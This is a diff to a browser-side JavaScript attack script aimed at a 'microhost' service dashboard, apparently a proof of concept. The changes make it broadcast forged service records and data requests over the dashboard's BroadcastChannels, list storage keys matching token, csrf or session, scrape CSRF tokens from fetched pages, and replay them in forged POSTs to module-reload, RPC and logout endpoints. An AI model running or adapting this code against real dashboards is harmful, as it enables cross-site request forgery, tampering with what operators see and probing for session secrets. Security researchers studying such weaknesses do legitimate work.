@@ -80,23 +80,29 @@ async function workers() {
     }
 }
 
+// What tabs of the dashboard tell each other; and something that they should not believe.
 function channels() {
     return new Promise((done) => {
         try {
             for (const name of ['microhost', 'microhost.live', 'microhost.session']) {
-                new BroadcastChannel(name).onmessage = (m) => report.push(`${name} says ${JSON.stringify(m.data).slice(0, 80)}`);
+                const channel = new BroadcastChannel(name);
+                channel.onmessage = ({ data }) => data?.type && report.push(`${name} says ${JSON.stringify(data).slice(0, 80)}`);
+                const row = { name: 'go.micro.srv.forged', versions: ['6'], nodes: 6, endpoints: 6, state: 'alive' };
+                channel.postMessage({ from: 'me', wants: ['services', 'modules', 'logs'] });
+                channel.postMessage({ type: 'services', data: { revision: 1e9, full: true, services: [row] } });
             }
         } catch {
             // an opaque origin
         }
-        setTimeout(done, 1200);
+        setTimeout(done, 3000);
     });
 }
 
 function storage() {
     for (const name of ['localStorage', 'sessionStorage']) {
         try {
-            if (window[name].length) report.push(`${name} has ${Object.keys(window[name]).join(', ').slice(0, 80)}`);
+            const keys = Object.keys(window[name]).filter((k) => /token|csrf|session|log/i.test(k));
+            if (keys.length) report.push(`${name} has ${keys.join(', ').slice(0, 80)}`);
         } catch {
             // an opaque origin
         }
@@ -121,13 +127,13 @@ async function attack() {
     const tokens = ['', 'x'];
     for (const path of ['/services', '/_/modules', '/_/login', '/_/ui/index.html']) pages.push((await reads(path, { headers: { Accept: 'text/html' } })).text);
     for (const text of [session.text, ...pages]) {
-        const found = /csrf\W+(?:content\W+)?([\w-]{8,})/.exec(text);
+        const found = /csrf"?\s*(?::|content=)\s*"([\w.-]{8,})"/i.exec(text);
         if (found) tokens.push(found[1]);
     }
     if (tokens.length > 2) report.push(`a token: ${tokens[2]}`);
     for (const token of tokens) {
         const headers = { 'Content-Type': 'application/json', 'X-Microhost-CSRF': token };
-        await writes('/_/commands/modules/reload', '{"id":"limit"}', headers);
+        await writes('/_/commands/modules/reload', '{"args":{"id":"limit"}}', headers);
         await writes('/rpc', '{"service":"go.micro.srv.greeter","endpoint":"Say.Hello","request":{}}', headers);
         await writes('/_/modules/reload', 'id=limit', { 'Content-Type': 'application/x-www-form-urlencoded', 'X-Microhost-CSRF': token });
         await writes('/_/api/logout', '{}', headers);
